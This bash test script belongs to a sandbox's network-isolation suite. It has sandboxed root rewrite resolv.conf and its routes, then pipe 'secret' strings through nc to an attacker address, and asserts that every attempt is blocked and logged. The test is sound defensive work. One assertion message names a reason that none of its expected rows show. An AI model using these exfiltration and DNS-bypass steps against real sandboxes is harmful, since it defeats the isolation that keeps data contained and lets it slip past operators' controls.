#!/bin/bash
# 33-routes-resolvconf: the sandbox's root rewrites its own network. It
# points resolv.conf at the internet's DNS server and at the attacker (a
# bind mount inside its own mount namespace: sluice's file under
# /etc/netns stays as it is), flushes its routes, routes everything on-link
# (ARP for every address), and routes via the gateway's uplink address
# instead of its own gateway address. The veth is still its only link:
# with no route nothing leaves, on-link nobody answers (the gateway's
# uplink address included: the gateway answers ARP on a sandbox's link
# only for that link's address since 2026-12-03, adv 38; before, it
# answered and decided the packets as below), and whatever reaches the
# gateway is decided as before — dns_bypass for the other resolvers,
# no_dns_binding for the attacker. Neither the DNS server nor the
# attacker hears a thing.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-routes-resolvconf
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/policy.json" <<EOF
{"network": {"allowedDomains": ["a.test"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
gw=$(tb_sandbox_field a gateway)
conf=/etc/netns/${P}-a/resolv.conf
sum0=$(sha256sum < "$conf")
: > "$TB_DIR/dns.log"

# resolv.conf pointed elsewhere, in the sandbox's own mount namespace
for ns in "$TB_ADDR_DNS" "$TB_ADDR_ATK"; do
	printf 'nameserver %s\noptions timeout:1 attempts:1\n' "$ns" > "$TB_DIR/resolv.$ns"
	out=$(tb_in a sh -c "mount --bind '$TB_DIR/resolv.$ns' /etc/resolv.conf &&
	    getent ahostsv4 bypass-getent.a.test; dig +time=1 +tries=1 bypass-udp.a.test
	    dig +tcp +time=1 +tries=1 bypass-tcp.a.test" 2>&1)
	tb_assert_match "$out" "timed out|no servers could be reached" "resolv.conf naming $ns: no answer"
	tb_check "  and no address" [ "$(printf '%s\n' "$out" | grep -c "$TB_ADDR_HTTPS")" = 0 ]
done
tb_assert_eq "$(sha256sum < "$conf")" "$sum0" "sluice's resolv.conf for the sandbox is untouched"
tb_assert_eq "$(tb_in a dig +short +time=2 +tries=1 a.test)" "$TB_ADDR_HTTPS" \
    "the sandbox's resolv.conf outside that mount still names the gateway"

# the routes
tb_in a ip route flush table main
out=$(echo secret-noroute | tb_in a nc -v -w 2 "$TB_ADDR_ATK" 443 2>&1)
tb_assert_match "$out" "unreachable" "no route: the network is unreachable"
tb_in a ip route add default dev eth0
echo secret-onlink | tb_in a nc -w 2 "$TB_ADDR_ATK" 443 >/dev/null 2>&1
tb_check "everything on-link: nobody answers ARP for the attacker" [ $? != 0 ]
tb_assert_eq "$(tb_in a ip neigh show "$TB_ADDR_ATK" | grep -c lladdr)" 0 \
    "  (no neighbour entry for it)"
tb_in a ip route replace default via 198.51.100.2 dev eth0 onlink
echo secret-viauplink | tb_in a nc -w 2 "$TB_ADDR_ATK" 443 >/dev/null 2>&1
tb_check "via the gateway's uplink address: refused all the same" [ $? != 0 ]
tb_assert_eq "$(tb_in a ip neigh show 198.51.100.2 | grep -c lladdr)" 0 \
    "  (nobody answers ARP for it on the sandbox's link)"
out=$(tb_in a dig +time=1 +tries=1 @"$TB_ADDR_DNS" bypass-uplink.a.test 2>&1)
tb_assert_match "$out" "timed out|no servers could be reached" "and another resolver through it: no answer"
tb_in a ip route replace default via "$gw" dev eth0 onlink
tb_assert_eq "$(tb_in a dig +short +time=2 +tries=1 a.test)" "$TB_ADDR_HTTPS" \
    "routes put back: the gateway's resolver answers again"

sleep 0.5
tb_assert_eq "$(tb_upstream_queries bypass)" 0 "the DNS server heard none of the bypass queries"
# The gateway asked a.test once; its cache answered the second time.
tb_assert_eq "$(tb_upstream_queries)" 1 "only the gateway's one forwarded a.test query"
tb_assert_eq "$(tb_upstream_queries '^a\.test$')" 1 "  (for a.test)"
tb_assert_eq "$(tb_attacker_packet_count)" 0 "the attacker received nothing"
tb_check "no secret on the far side" [ "$(tb_attacker_received | grep -ac secret)" = 0 ]

tb_wait_rows "SELECT count(*) FROM flows" 6 >/dev/null
# getent, dig and dig +tcp per resolver: a row each
tb_assert_eq "$(tb_sql "SELECT proto, dst_ip, dst_port, verdict, reason FROM flows ORDER BY id")" \
"udp|$TB_ADDR_DNS|53|deny|dns_bypass
udp|$TB_ADDR_DNS|53|deny|dns_bypass
tcp|$TB_ADDR_DNS|53|deny|dns_bypass
udp|$TB_ADDR_ATK|53|deny|dns_bypass
udp|$TB_ADDR_ATK|53|deny|dns_bypass
tcp|$TB_ADDR_ATK|53|deny|dns_bypass" \
    "rows: dns_bypass for each other resolver, no_dns_binding for the attacker"
tb_done
